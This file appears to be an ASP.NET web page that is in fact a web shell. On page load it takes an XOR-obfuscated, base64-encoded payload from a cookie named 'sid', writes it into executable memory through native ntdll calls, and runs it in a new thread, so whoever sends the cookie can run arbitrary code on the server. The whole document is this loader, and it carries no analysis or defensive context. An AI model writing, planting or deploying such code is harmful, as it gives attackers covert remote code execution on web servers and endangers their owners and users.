<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    [DllImport("ntdll.dll")] static extern uint NtAllocateVirtualMemory(IntPtr proc, ref IntPtr baseAddr, IntPtr zeroBits, ref IntPtr size, uint type, uint prot);
    [DllImport("ntdll.dll")] static extern uint NtCreateThreadEx(out IntPtr th, uint access, IntPtr attr, IntPtr proc, IntPtr start, IntPtr arg, bool susp, uint z, uint s, uint m, IntPtr list);
    [DllImport("kernel32.dll")] static extern IntPtr GetCurrentProcess();
    void Page_Load(object sender, EventArgs e)
    {
        byte[] enc = Convert.FromBase64String(Request.Cookies["sid"].Value);
        for (int i = 0; i < enc.Length; i++) enc[i] = (byte)(enc[i] ^ 0x5A);
        IntPtr baseAddr = IntPtr.Zero, size = (IntPtr)enc.Length, th;
        NtAllocateVirtualMemory(GetCurrentProcess(), ref baseAddr, IntPtr.Zero, ref size, 0x3000, 0x40);
        Marshal.Copy(enc, 0, baseAddr, enc.Length);
        NtCreateThreadEx(out th, 0x1FFFFF, IntPtr.Zero, GetCurrentProcess(), baseAddr, IntPtr.Zero, false, 0, 0, 0, IntPtr.Zero);
    }
</script>
